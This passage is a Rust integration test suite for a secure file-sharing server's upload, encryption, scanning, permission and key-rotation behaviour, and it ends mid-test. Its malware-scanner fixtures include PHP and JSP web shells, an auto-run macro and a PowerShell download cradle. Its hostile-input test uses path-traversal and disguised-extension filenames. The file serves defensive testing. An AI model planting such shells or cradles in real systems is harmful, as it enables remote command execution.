//! Files over HTTP: encrypted round trips, tampering, scanning, permissions, hostile input,
//! crash safety; and an independent decryption of the stored format.

use std::io::Write;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::auth::{admin_token, get, open_server, post, user_token};
use crate::both_backends;
use crate::harness::{Backend, Resp, Server, TestDb};

pub const BOUNDARY: &str = "sccollabTESTboundary7MA4YWxkTrZu0gW";
pub const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

pub fn multipart(name: &str, content_type: &str, data: &[u8], metadata: Option<&str>) -> Vec<u8> {
    let mut b = Vec::with_capacity(data.len() + 512);
    if let Some(m) = metadata {
        write!(b, "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"metadata\"\r\n\r\n{m}\r\n").unwrap();
    }
    write!(b, "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: {content_type}\r\n\r\n").unwrap();
    b.extend_from_slice(data);
    write!(b, "\r\n--{BOUNDARY}--\r\n").unwrap();
    b
}

pub fn upload_raw(srv: &Server, token: &str, body: &[u8]) -> Resp {
    let auth = format!("Bearer {token}");
    let ct = format!("multipart/form-data; boundary={BOUNDARY}");
    srv.request("POST", "/api/files/upload", &[("Authorization", &auth), ("Content-Type", &ct)], Some(body))
}

pub fn upload(srv: &Server, token: &str, name: &str, data: &[u8]) -> Value {
    let r = upload_raw(
        srv,
        token,
        &multipart(name, "application/octet-stream", data, Some(r#"{"description":"test upload"}"#)),
    );
    assert_eq!(r.status, 201, "{}", r.text());
    r.json()
}

/// Waits until the background scan has judged the file.
pub fn scanned(srv: &Server, token: &str, id: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let f = get(srv, &format!("/api/files/{id}"), token).json();
        let s = f["file"]["scan_status"].as_str().unwrap_or_default().to_string();
        if s != "pending" {
            return s;
        }
        assert!(Instant::now() < deadline, "scan did not finish");
        std::thread::sleep(Duration::from_millis(50));
    }
}

pub fn download(srv: &Server, token: &str, id: &str, range: Option<&str>) -> Resp {
    let auth = format!("Bearer {token}");
    let mut h = vec![("Authorization", auth.as_str())];
    if let Some(r) = range {
        h.push(("Range", r));
    }
    srv.request("GET", &format!("/api/files/download/{id}"), &h, None)
}

/// The storage key of a file (the suite runs on the local store or on S3: `harness::Objects`).
fn object_key(srv: &Server, id: &str) -> String {
    srv.db.sql(&format!("SELECT storage_key FROM files WHERE id = '{id}'"))
}

fn read_object(srv: &Server, id: &str) -> Vec<u8> {
    srv.db.objects().read(&object_key(srv, id))
}

fn write_object(srv: &Server, id: &str, data: &[u8]) {
    srv.db.objects().write(&object_key(srv, id), data)
}

fn objects_stored(srv: &Server) -> usize {
    srv.db.objects().keys().len()
}

fn rss_kib(pid: u32, field: &str) -> u64 {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    s.lines().find(|l| l.starts_with(field)).unwrap().split_whitespace().nth(1).unwrap().parse().unwrap()
}

both_backends!(round_trips_are_byte_identical, |b: Backend| {
    let srv = open_server(b);
    let t = user_token(&srv, "ann@example.org");
    let tok = t["token"].as_str().unwrap();
    for len in [0usize, 1, 65_536, 65_537, 1_000_003] {
        let data: Vec<u8> = (0..len).map(|i| (i * 7 % 251) as u8).collect();
        let up = upload(&srv, tok, &format!("f{len}.bin"), &data);
        let id = up["file_id"].as_str().unwrap();
        assert_eq!(up["file"]["size"], len);
        assert_eq!(up["file"]["description"], "test upload");
        assert_eq!(up["file"]["scan_status"], "pending");
        assert_eq!(scanned(&srv, tok, id), "clean");
        let d = download(&srv, tok, id, None);
        assert_eq!(d.status, 200, "{}", d.text());
        assert_eq!(d.body.len(), len);
        assert!(d.body == data, "download of {len} bytes differs");
        assert_eq!(d.header("content-length").map(|v| v.parse::<usize>().unwrap()), Some(len));
        assert!(d.header("content-disposition").unwrap().starts_with("attachment;"));
        assert_eq!(d.header("x-content-type-options"), Some("nosniff"));
        use sha2::Digest;
        assert_eq!(up["file"]["sha256"], hex::encode(sha2::Sha256::digest(&data)));
        // The stored object never contains the plaintext or the name.
        let stored = read_object(&srv, id);
        assert!(stored.starts_with(b"SCF1"));
        if len >= 64 {
            assert!(!stored.windows(64).any(|w| w == &data[..64]));
        }
    }
    // Ranges.
    let data: Vec<u8> = (0..200_000).map(|i| (i % 256) as u8).collect();
    let id = upload(&srv, tok, "r.bin", &data)["file_id"].as_str().unwrap().to_string();
    scanned(&srv, tok, &id);
    let r = download(&srv, tok, &id, Some("bytes=65530-65545"));
    assert_eq!(r.status, 206);
    assert_eq!(r.body, &data[65530..65546]);
    assert_eq!(r.header("content-range"), Some("bytes 65530-65545/200000"));
    assert_eq!(download(&srv, tok, &id, Some("bytes=-10")).body, &data[199_990..]);
    assert_eq!(download(&srv, tok, &id, Some("bytes=300000-")).status, 416);
    // Listing.
    let list = get(&srv, "/api/files?limit=2", tok).json();
    assert_eq!(list["files"].as_array().unwrap().len(), 2);
    assert!(list["next_cursor"].is_string());
});

#[test]
fn large_round_trip_keeps_memory_flat() {
    let srv = open_server(Backend::Sqlite);
    let pid = srv.pid();
    let t = user_token(&srv, "big@example.org");
    let tok = t["token"].as_str().unwrap();
    let pattern =
        |len: usize| -> Vec<u8> { (0..len).map(|i| (i as u32).wrapping_mul(2654435761).to_le_bytes()[3]).collect() };
    let round_trip = |name: &str, data: &[u8]| {
        let body = multipart(name, "application/octet-stream", data, None);
        let r = upload_raw(&srv, tok, &body);
        drop(body);
        assert_eq!(r.status, 201, "{}", r.text());
        let id = r.json()["file_id"].as_str().unwrap().to_string();
        assert_eq!(scanned(&srv, tok, &id), "clean");
        let d = download(&srv, tok, &id, None);
        assert_eq!(d.status, 200);
        assert!(d.body == data, "{name}: download differs");
    };
    // Warm-up: a 65 MiB round trip through the same threads (above the 64 MiB in-memory scan
    // limit, so it is scanned block by block like the large file). glibc's malloc keeps what each
    // thread's arena once held (~10-20 MiB per arena after such a transfer, more arenas under
    // load), so the first large transfer raises the peak whatever its size; what must not grow
    // is the peak with the size of the file.
    round_trip("warmup.bin", &pattern(65 * 1024 * 1024));
    let before = rss_kib(pid, "VmHWM:");
    let data = pattern(300 * 1024 * 1024);
    round_trip("big.bin", &data);
    let after = rss_kib(pid, "VmHWM:");
    eprintln!("server peak RSS: {before} KiB after a 65 MiB round trip, {after} KiB after a 300 MiB one");
    // Buffering the 300 MiB body, its ciphertext or the download would add >= 300 MiB; the
    // bound leaves room for arenas of threads the warm-up did not use.
    assert!(after - before < 96 * 1024, "peak RSS grew by {} KiB with a larger file", after - before);
    if crate::harness::storage_mode() == crate::harness::StorageMode::S3 {
        // Streamed to S3 as a multipart upload of 5 MiB parts, not buffered and sent whole.
        let objects = srv.db.objects();
        let keys = objects.keys();
        let sizes: Vec<(String, u64)> = keys.iter().map(|k| objects.etag_and_size(k)).collect();
        let (etag, size) = sizes.iter().max_by_key(|(_, s)| *s).unwrap();
        let parts = size.div_ceil(5 * 1024 * 1024);
        assert!(etag.ends_with(&format!("-{parts}")), "ETag {etag} of a {size}-byte object: not {parts} parts");
    }
}

both_backends!(tampered_objects_are_found_and_refused, |b: Backend| {
    let srv = open_server(b);
    let admin = admin_token(&srv);
    let t = user_token(&srv, "bea@example.org");
    let tok = t["token"].as_str().unwrap();
    let data: Vec<u8> = (0..3 * 65_536 + 10).map(|i| (i % 199) as u8).collect();
    let mut ids = Vec::new();
    for n in 0..4 {
        let id = upload(&srv, tok, &format!("t{n}.bin"), &data)["file_id"].as_str().unwrap().to_string();
        assert_eq!(scanned(&srv, tok, &id), "clean");
        ids.push(id);
    }
    let ok = get(&srv, &format!("/api/audit/integrity-check/{}", ids[0]), &admin).json();
    assert_eq!(ok["status"], "ok", "{ok}");
    assert_eq!(ok["expected_sha256"], ok["actual_sha256"]);
    // 1: one flipped byte. 2: truncated. 3: two segments swapped.
    let seg = 65_536 + 16;
    let mut o = read_object(&srv, &ids[1]);
    o[17 + 100] ^= 0x01;
    write_object(&srv, &ids[1], &o);
    let o = read_object(&srv, &ids[2]);
    write_object(&srv, &ids[2], &o[..17 + 2 * seg]);
    let mut o = read_object(&srv, &ids[3]);
    let first = o[17..17 + seg].to_vec();
    o.copy_within(17 + seg..17 + 2 * seg, 17);
    o[17 + seg..17 + 2 * seg].copy_from_slice(&first);
    write_object(&srv, &ids[3], &o);
    for id in &ids[1..] {
        let r = get(&srv, &format!("/api/audit/integrity-check/{id}"), &admin).json();
        assert_eq!(r["status"], "compromised", "{r}");
        let f = get(&srv, &format!("/api/files/{id}"), tok).json();
        assert_eq!(f["file"]["integrity"], "compromised");
        download(&srv, tok, id, None).assert_error(423, "file_compromised");
    }
    let alerts = get(&srv, "/api/admin/alerts?open=true", &admin).json();
    let n = alerts["alerts"].as_array().unwrap().iter().filter(|a| a["kind"] == "integrity_compromised").count();
    assert_eq!(n, 3, "{alerts}");
    let aid = alerts["alerts"][0]["id"].as_str().unwrap();
    assert_eq!(post(&srv, &format!("/api/admin/alerts/{aid}/ack"), Some(&admin), json!({})).status, 204);
    assert_eq!(get(&srv, "/api/admin/alerts?open=true", &admin).json()["alerts"].as_array().unwrap().len(), 2);
});

/// A sample for every shipped rule, and what it must be judged.
fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let mut pe = vec![0u8; 512];
    pe[0] = b'M';
    pe[1] = b'Z';
    pe[0x3C] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    vec![
        ("EICAR_Test_File", EICAR.as_bytes().to_vec()),
        ("PHP_Web_Shell", b"<?php echo 'hi'; system($_GET['cmd']); ?>".to_vec()),
        ("JSP_ASP_Web_Shell", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>".to_vec()),
        (
            "Office_AutoRun_Macro",
            b"PK\x03\x04 word/vbaProject.bin Sub AutoOpen() CreateObject(\"WScript.Shell\").Run \"calc\" End Sub"
                .to_vec(),
        ),
        ("PE_Executable_Content", pe),
        (
            "PowerShell_Download_Cradle",
            b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')".to_vec(),
        ),
    ]
}

#[test]
fn malware_is_quarantined_and_clean_files_pass() {
    // PE content is blocked at upload by default; allow it here so the PE rule itself is exercised.
    let policy = crate::harness::policy_dir_with("[upload]\nblocked_types = []\n");
    let srv = Server::start_with(
        TestDb::new(Backend::Sqlite),
        &[
            ("SECCOLLAB_AUTH__REGISTRATION", "open"),
            ("SECCOLLAB_SECURITY__POLICY_DIR", policy.path().to_str().unwrap()),
        ],
    );
    let admin = admin_token(&srv);
    let t = user_token(&srv, "cy@example.org");
    let tok = t["token"].as_str().unwrap();
    for (rule, sample) in samples() {
        let id = upload(&srv, tok, "sample.txt", &sample)["file_id"].as_str().unwrap().to_string();
        assert_eq!(scanned(&srv, tok, &id), "quarantined", "{rule}");
        download(&srv, tok, &id, None).assert_error(423, "file_quarantined");
        let r = post(&srv, &format!("/api/audit/security-scan/{id}"), Some(&admin), json!({})).json();
        assert_eq!(r["status"], "infected", "{r}");
        assert!(r["matches"].as_array().unwrap().iter().any(|m| m["rule"] == rule), "{rule}: {r}");
        assert!(r["engine"].as_str().unwrap().starts_with("yara-x"));
    }
    let clean = upload(&srv, tok, "notes.txt", b"quarterly numbers, nothing to see here")["file_id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(scanned(&srv, tok, &clean), "clean");
    let r = post(&srv, &format!("/api/audit/security-scan/{clean}"), Some(&admin), json!({})).json();
    assert_eq!(r["status"], "clean");
    let alerts = get(&srv, "/api/admin/alerts", &admin).json();
    let n = alerts["alerts"].as_array().unwrap().iter().filter(|a| a["kind"] == "malware_detected").count();
    assert!(n >= samples().len(), "{alerts}");
    // A broken rule file: reload refuses with file and line, the old rules stay in force.
    std::fs::write(policy.path().join("yara/broken.yar"), "rule broken {\n  condition:\n    nonsense_identifier\n}\n")
        .unwrap();
    let r = post(&srv, "/api/admin/scanner/reload", Some(&admin), json!({}));
    r.assert_error(400, "invalid_rules");
    assert!(r.text().contains("broken.yar"), "{}", r.text());
    let id = upload(&srv, tok, "again.txt", EICAR.as_bytes())["file_id"].as_str().unwrap().to_string();
    assert_eq!(scanned(&srv, tok, &id), "quarantined");
}

both_backends!(permission_matrix, |b: Backend| {
    let srv = open_server(b);
    let admin = admin_token(&srv);
    let owner = user_token(&srv, "own@example.org");
    let viewer = user_token(&srv, "view@example.org");
    let loader = user_token(&srv, "load@example.org");
    let expired = user_token(&srv, "exp@example.org");
    let stranger = user_token(&srv, "str@example.org");
    let tk = |v: &Value| v["token"].as_str().unwrap().to_string();
    let uid = |v: &Value| v["user"]["id"].as_str().unwrap().to_string();
    let (o, v, l, e, s) = (tk(&owner), tk(&viewer), tk(&loader), tk(&expired), tk(&stranger));
    let id = upload(&srv, &o, "plan.txt", b"the plan")["file_id"].as_str().unwrap().to_string();
    assert_eq!(scanned(&srv, &o, &id), "clean");
    let share = |ids: Vec<String>, perm: &str, exp: Option<String>| {
        post(
            &srv,
            "/api/files/share",
            Some(&o),
            json!({"file_id": id, "user_ids": ids, "permissions": perm, "expires_at": exp}),
        )
    };
    let r = share(vec![uid(&viewer)], "view", None);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["shares"][0]["permissions"], "view");
    assert_eq!(share(vec![uid(&loader)], "download", None).status, 200);
    let soon = time_in(2);
    assert_eq!(share(vec![uid(&expired)], "download", Some(soon)).status, 200);
    // Bad share requests.
    share(vec![uid(&viewer)], "edit", None).assert_error(400, "invalid_input");
    share(vec!["nobody".into()], "view", None).assert_error(400, "invalid_input");
    share(vec![uid(&owner)], "view", None).assert_error(400, "invalid_input");
    share(vec![uid(&viewer)], "view", Some("2001-01-01T00:00:00Z".into())).assert_error(400, "invalid_input");
    std::thread::sleep(Duration::from_millis(2500));

    let path = format!("/api/files/{id}");
    assert_eq!(get(&srv, &path, &o).status, 200);
    assert_eq!(get(&srv, &path, &v).status, 200);
    assert_eq!(get(&srv, &path, &l).status, 200);
    get(&srv, &path, &e).assert_error(404, "file_not_found");
    get(&srv, &path, &s).assert_error(404, "file_not_found");
    get(&srv, &path, &admin).assert_error(404, "file_not_found");

    assert_eq!(download(&srv, &o, &id, None).body, b"the plan");
    download(&srv, &v, &id, None).assert_error(403, "forbidden");
    assert_eq!(download(&srv, &l, &id, None).body, b"the plan");
    download(&srv, &e, &id, None).assert_error(404, "file_not_found");
    download(&srv, &s, &id, None).assert_error(404, "file_not_found");
    download(&srv, &admin, &id, None).assert_error(404, "file_not_found");

    // The file's discussion: owner and live shares (view or download) read and post; an
    // expired share, a stranger and an admin see a file that does not exist.
    let mpath = format!("/api/files/{id}/messages");
    for (who, tok) in [("owner", &o), ("viewer", &v), ("loader", &l)] {
        let r = post(&srv, &mpath, Some(tok), json!({"content": format!("{who} was here")}));
        assert_eq!(r.status, 201, "{who}: {}", r.text());
    }
    for tok in [&o, &v, &l] {
        let list = get(&srv, &mpath, tok).json();
        let said: Vec<&str> =
            list["messages"].as_array().unwrap().iter().map(|m| m["content"].as_str().unwrap()).collect();
        assert_eq!(said, ["owner was here", "viewer was here", "loader was here"]);
    }
    for tok in [&e, &s, &admin] {
        get(&srv, &mpath, tok).assert_error(404, "file_not_found");
        post(&srv, &mpath, Some(tok), json!({"content": "hello?"})).assert_error(404, "file_not_found");
    }

    // Shared lists.
    let sv = get(&srv, "/api/files/shared", &v).json();
    assert_eq!(sv["files"][0]["id"], id.as_str());
    assert_eq!(sv["files"][0]["permissions"], "view");
    assert_eq!(sv["files"][0]["shared_by"], uid(&owner).as_str());
    assert_eq!(get(&srv, "/api/files/shared", &e).json()["files"].as_array().unwrap().len(), 0);
    assert_eq!(get(&srv, "/api/files", &v).json()["files"].as_array().unwrap().len(), 0);

    // Only the owner shares, revokes and deletes.
    let as_loader = post(
        &srv,
        "/api/files/share",
        Some(&l),
        json!({"file_id": id, "user_ids": [uid(&stranger)], "permissions": "view"}),
    );
    as_loader.assert_error(403, "forbidden");
    let as_stranger = post(
        &srv,
        "/api/files/share",
        Some(&s),
        json!({"file_id": id, "user_ids": [uid(&stranger)], "permissions": "view"}),
    );
    as_stranger.assert_error(404, "file_not_found");
    let del = |tok: &str, p: &str| srv.request("DELETE", p, &[("Authorization", &format!("Bearer {tok}"))], None);
    del(&l, &format!("/api/files/{id}/shares/{}", uid(&viewer))).assert_error(403, "forbidden");
    del(&s, &format!("/api/files/{id}/shares/{}", uid(&viewer))).assert_error(404, "file_not_found");
    assert_eq!(del(&o, &format!("/api/files/{id}/shares/{}", uid(&viewer))).status, 204);
    get(&srv, &path, &v).assert_error(404, "file_not_found");
    del(&o, &format!("/api/files/{id}/shares/{}", uid(&viewer))).assert_error(404, "share_not_found");
    del(&l, &path).assert_error(403, "forbidden");
    del(&s, &path).assert_error(404, "file_not_found");
    del(&admin, &path).assert_error(404, "file_not_found");
    let before = objects_stored(&srv);
    assert_eq!(del(&o, &path).status, 204);
    get(&srv, &path, &o).assert_error(404, "file_not_found");
    assert_eq!(objects_stored(&srv), before - 1, "the stored object is removed");
    // Shares, downloads and deletes were audited.
    let logs = get(&srv, "/api/admin/logs?action=file.share", &admin).json();
    assert_eq!(logs["entries"].as_array().unwrap().len(), 3);
    let logs = get(&srv, "/api/admin/logs?action=file.download&outcome=denied", &admin).json();
    assert_eq!(logs["entries"].as_array().unwrap().len(), 1, "the view-only refusal");
});

fn time_in(secs: u64) -> String {
    let t = std::time::SystemTime::now() + Duration::from_secs(secs);
    let d = t.duration_since(std::time::UNIX_EPOCH).unwrap();
    let out = std::process::Command::new("date")
        .args(["-u", "-d", &format!("@{}", d.as_secs()), "+%Y-%m-%dT%H:%M:%SZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

#[test]
fn hostile_input_is_refused_and_nothing_is_stored() {
    let srv = Server::start_with(
        TestDb::new(Backend::Sqlite),
        &[("SECCOLLAB_AUTH__REGISTRATION", "open"), ("SECCOLLAB_FILES__MAX_UPLOAD_BYTES", "1048576")],
    );
    let t = user_token(&srv, "dot@example.org");
    let tok = t["token"].as_str().unwrap();
    let long = "n".repeat(10_000);
    for name in ["../../etc/passwd", "a\u{0}b.txt", long.as_str(), "invoice\u{202E}fdp.exe"] {
        let r = upload_raw(&srv, tok, &multipart(name, "text/plain", b"hello", None));
        r.assert_error(400, "invalid_input");
    }
    // An executable that claims to be a PDF.
    let mut exe = vec![0u8; 1024];
    exe[..2].copy_from_slice(b"MZ");
    exe[0x3C] = 0x80;
    exe[0x80..0x84].copy_from_slice(b"PE\0\0");
    upload_raw(&srv, tok, &multipart("report.pdf", "application/pdf", &exe, None))
        .assert_error(415, "file_type_blocked");
    // Over the size limit: declared too large (refused before reading), and found too large
    // while streaming (declared size within the framing allowance).
    let big = multipart("big.bin", "application/octet-stream", &vec![7u8; 3 * 1024 * 1024], None);
    assert_eq!(status_over_socket(&srv, tok, &big), 413);
    let over = multipart("over.bin", "application/octet-stream", &vec![7u8; 1024 * 1024 + 512 * 1024], None);
    assert_eq!(status_over_socket(&srv, tok, &over), 413);
    // Malformed multipart: no closing boundary, wrong boundary, wrong content type, two files.
    let mut cut = multipart("x.txt", "text/plain", b"hello world", None);
    cut.truncate(cut.len() - 30);
    assert_eq!(upload_raw(&srv, tok, &cut).status, 400);
    let auth = format!("Bearer {tok}");
    let r = srv.request(
        "POST",
        "/api/files/upload",
        &[("Authorization", &auth), ("Content-Type", "multipart/form-data; boundary=other")],
        Some(&multipart("x.txt", "text/plain", b"x", None)),
    );
    assert_eq!(r.status, 400, "{}", r.text());
    let r = srv.request(
        "POST",
        "/api/files/upload",
        &[("Authorization", &auth), ("Content-Type", "application/json")],
        Some(b"{}"),
    );
    r.assert_error(415, "unsupported_media_type");
    let part = |n: &str| {
        format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{n}\"\r\n\r\n{n}\r\n")
    };
    let two = format!("{}{}--{BOUNDARY}--\r\n", part("a.txt"), part("b.txt")).into_bytes();
    upload_raw(&srv, tok, &two).assert_error(400, "invalid_input");
    upload_raw(&srv, tok, &multipart("m.txt", "text/plain", b"x", Some("{not json")))
        .assert_error(400, "invalid_input");
    assert_eq!(srv.db.sql("SELECT count(*) FROM files"), "0");
    assert_eq!(objects_stored(&srv), 0, "nothing left in storage");
    assert_eq!(srv.db.objects().partials(), 0, "no partial objects");
}

/// Sends an upload on a raw socket and reads the status line, as a browser does when the server
/// answers before the whole body is sent.
fn status_over_socket(srv: &Server, tok: &str, body: &[u8]) -> u16 {
    use std::io::Read;
    let addr = srv.base.trim_start_matches("http://").to_string();
    let mut sock = std::net::TcpStream::connect(&addr).unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let head = format!(
        "POST /api/files/upload HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {tok}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let mut writer = sock.try_clone().unwrap();
    let body = body.to_vec();
    let sender = std::thread::spawn(move || {
        let _ = writer.write_all(head.as_bytes()).and_then(|_| writer.write_all(&body));
    });
    let mut response = Vec::new();
    let mut buf = [0u8; 4096];
    while !response.windows(4).any(|w| w == b"\r\n\r\n") {
        match sock.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => response.extend_from_slice(&buf[..n]),
        }
    }
    let _ = sock.shutdown(std::net::Shutdown::Both);
    let _ = sender.join();
    let line = String::from_utf8_lossy(&response).lines().next().unwrap_or_default().to_string();
    line.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or_else(|| panic!("no status line: {line:?}"))
}

#[test]
fn kill_during_upload_leaves_nothing_after_restart() {
    let db = TestDb::new(Backend::Sqlite);
    let mut srv = Server::start_with(db, &[("SECCOLLAB_AUTH__REGISTRATION", "open")]);
    let t = user_token(&srv, "eve@example.org");
    let tok = t["token"].as_str().unwrap().to_string();
    // Start a 64 MiB upload, send a quarter of it, then kill the server hard.
    let addr = srv.base.trim_start_matches("http://").to_string();
    let mut sock = std::net::TcpStream::connect(&addr).unwrap();
    let body_len = 64 * 1024 * 1024 + 300;
    write!(sock, "POST /api/files/upload HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {tok}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {body_len}\r\n\r\n").unwrap();
    write!(sock, "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.bin\"\r\n\r\n")
        .unwrap();
    let chunk = vec![42u8; 1024 * 1024];
    for _ in 0..16 {
        sock.write_all(&chunk).unwrap();
    }
    // 16 MiB sent: a temporary file of the local store, a multipart upload on S3 (5 MiB parts).
    let deadline = Instant::now() + Duration::from_secs(10);
    while srv.db.objects().partials() != 1 {
        assert!(Instant::now() < deadline, "the upload is in progress");
        std::thread::sleep(Duration::from_millis(50));
    }
    srv.kill9();
    drop(sock);
    let db = srv.take_db();
    let srv = Server::start_with(db, &[("SECCOLLAB_AUTH__REGISTRATION", "open")]);
    assert_eq!(srv.db.sql("SELECT count(*) FROM files"), "0");
    assert_eq!(objects_stored(&srv), 0, "no object is visible");
    match crate::harness::storage_mode() {
        // The local store removes what the crash left at start.
        crate::harness::StorageMode::Local => assert_eq!(srv.db.objects().partials(), 0, "partial object removed"),
        // On S3 the interrupted multipart upload stays invisible until the bucket's lifecycle
        // rule aborts it (docs/plugins.md): never an object under a key.
        crate::harness::StorageMode::S3 => {}
    }
}

/// Decrypts a stored object following `docs/encryption.md` only, each layer with the other
/// implementation than the server's: the data key (wrapped by the server with the `aes-gcm`
/// crate) with `ring`, the content (sealed by the server with `ring`) with `aes-gcm`.
#[test]
fn stored_format_matches_the_documentation() {
    use aes_gcm::aead::{Aead, KeyInit, Payload};
    use base64::Engine;
    use ring::aead::{Aad, LessSafeKey, Nonce, UnboundKey, AES_256_GCM};
    let srv = open_server(Backend::Sqlite);
    let t = user_token(&srv, "doc@example.org");
    let tok = t["token"].as_str().unwrap();
    let data: Vec<u8> = (0..150_000).map(|i| (i % 241) as u8).collect();
    let id = upload(&srv, tok, "doc.bin", &data)["file_id"].as_str().unwrap().to_string();
    let master_b64 = std::fs::read_to_string(srv.db.dir.path().join("data/keys/master.key")).unwrap();
    let master = base64::engine::general_purpose::STANDARD.decode(master_b64.trim()).unwrap();
    let wrapped = srv.db.sql(&format!("SELECT wrapped_key FROM files WHERE id = '{id}'"));
    let mut w = base64::engine::general_purpose::STANDARD.decode(wrapped).unwrap();
    let open = |key: &[u8], nonce: &[u8], aad: &[u8], ct: &mut Vec<u8>| -> Vec<u8> {
        let k = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, key).unwrap());
        let n = Nonce::try_assume_unique_for_key(nonce).unwrap();
        k.open_in_place(n, Aad::from(aad), ct).expect("authentic").to_vec()
    };
    let (nonce, rest) = w.split_at_mut(12);
    let mut ct = rest.to_vec();
    let dek = open(&master, nonce, format!("seccollab.dek.v1:{id}").as_bytes(), &mut ct);
    assert_eq!(dek.len(), 32);
    let obj = read_object(&srv, &id);
    let header = &obj[..17];
    assert_eq!(&header[..4], b"SCF1");
    assert_eq!((header[4], header[5]), (1, 1));
    assert_eq!(u32::from_be_bytes(header[6..10].try_into().unwrap()), 65_536);
    let segs: Vec<&[u8]> = obj[17..].chunks(65_536 + 16).collect();
    let mut plain = Vec::new();
    for (i, seg) in segs.iter().enumerate() {
        let mut nonce = header[10..17].to_vec();
        nonce.extend_from_slice(&(i as u32).to_be_bytes());
        nonce.push((i == segs.len() - 1) as u8);
        let cipher = aes_gcm::Aes256Gcm::new_from_slice(&dek).unwrap();
        let p = cipher.decrypt(nonce.as_slice().into(), Payload { msg: seg, aad: header }).expect("authentic segment");
        plain.extend(p);
    }
    assert!(plain == data);
}

#[test]
fn scan_all_applies_new_rules_to_stored_files() {
    let policy = crate::harness::policy_dir_with("");
    let db = TestDb::new(Backend::Sqlite);
    let srv = Server::start_with(
        db,
        &[
            ("SECCOLLAB_AUTH__REGISTRATION", "open"),
            ("SECCOLLAB_SECURITY__POLICY_DIR", policy.path().to_str().unwrap()),
        ],
    );
    let t = user_token(&srv, "fay@example.org");
    let tok = t["token"].as_str().unwrap();
    let id = upload(&srv, tok, "memo.txt", b"project bluebird launch codes")["file_id"].as_str().unwrap().to_string();
    assert_eq!(scanned(&srv, tok, &id), "clean");
    std::fs::write(
        policy.path().join("yara/local.yar"),
        "rule Bluebird_Leak { meta: description = \"leaked codename\" severity = \"high\" strings: $a = \"bluebird launch\" condition: $a }\n",
    )
    .unwrap();
    let mut env = srv.db.env();
    env.push(("SECCOLLAB_SECURITY__POLICY_DIR".into(), policy.path().to_str().unwrap().into()));
    let (code, out, err) = crate::harness::run_cli(&env, &["scan", "--all"], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("scanned 1/1 files (1 quarantined"), "{err}");
    assert_eq!(serde_json::from_str::<Value>(out.trim()).unwrap()["quarantined"], 1);
    let f = get(&srv, &format!("/api/files/{id}"), tok).json();
    assert_eq!(f["file"]["scan_status"], "quarantined");
    download(&srv, tok, &id, None).assert_error(423, "file_quarantined");
}

both_backends!(key_rotation_rewraps_without_touching_content, |b: Backend| {
    let srv = open_server(b);
    let t = user_token(&srv, "gus@example.org");
    let tok = t["token"].as_str().unwrap();
    // An MFA user too: the TOTP secret is sealed under the master key.
    let secret = post(&srv, "/api/auth/mfa/setup", Some(tok), json!({})).json()["secret"].as_str().unwrap().to_string();
    let mut ids = Vec::new();
    for n in 0..3 {
        let data = format!("contents of file {n}").repeat(5000);
        let id = upload(&srv, tok, &format!("k{n}.txt"), data.as_bytes())["file_id"].as_str().unwrap().to_string();
        assert_eq!(scanned(&srv, tok, &id), "clean");
        ids.push((id, data));
    }
    let keys = srv.db.dir.path().join("data/keys");
    let old_master = std::fs::read(keys.join("master.key")).unwrap();
    let objects_before: Vec<Vec<u8>> = ids.iter().map(|(id, _)| read_object(&srv, id)).collect();
    let old_kid = srv.db.sql("SELECT DISTINCT key_id FROM files");

    let (code, out, err) = crate::harness::run_cli(&srv.db.env(), &["keys", "rotate"], None);
    assert_eq!(code, 0, "{err}");
    let r: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(r["files"], 3);
    assert_eq!(r["totp_secrets"], 1);
    assert!(err.contains("re-wrapped 3/3 data keys"), "{err}");
    let new_master = std::fs::read(keys.join("master.key")).unwrap();
    assert_ne!(new_master, old_master);
    assert_eq!(std::fs::read(keys.join(format!("retired/{old_kid}.key"))).unwrap(), old_master);
    assert!(!keys.join("master.key.next").exists());
    assert_eq!(srv.db.sql("SELECT DISTINCT key_id FROM files"), r["new_key_id"].as_str().unwrap());
    for ((id, _), before) in ids.iter().zip(&objects_before) {
        assert!(&read_object(&srv, id) == before, "content untouched");
    }
    // The running server follows the rotation, and so does a restarted one.
    for (id, data) in &ids {
        assert!(download(&srv, tok, id, None).body == data.as_bytes(), "download after rotation");
    }
    let uid = t["user"]["id"].as_str().unwrap().to_string();
    let db = srv.take_db();
    let srv = Server::start_with(db, &[("SECCOLLAB_AUTH__REGISTRATION", "open")]);
    let tok = crate::auth::login(&srv, "gus@example.org", crate::auth::PASSWORD).json()["token"]
        .as_str()
        .unwrap()
        .to_string();
    for (id, data) in &ids {
        assert!(download(&srv, &tok, id, None).body == data.as_bytes(), "download after rotation");
    }
    // The TOTP enrolment still works with the re-sealed secret.
    let code = std::process::Command::new("oathtool").args(["--totp", "-b", &secret]).output().unwrap();
    let code = String::from_utf8(code.stdout).unwrap().trim().to_string();
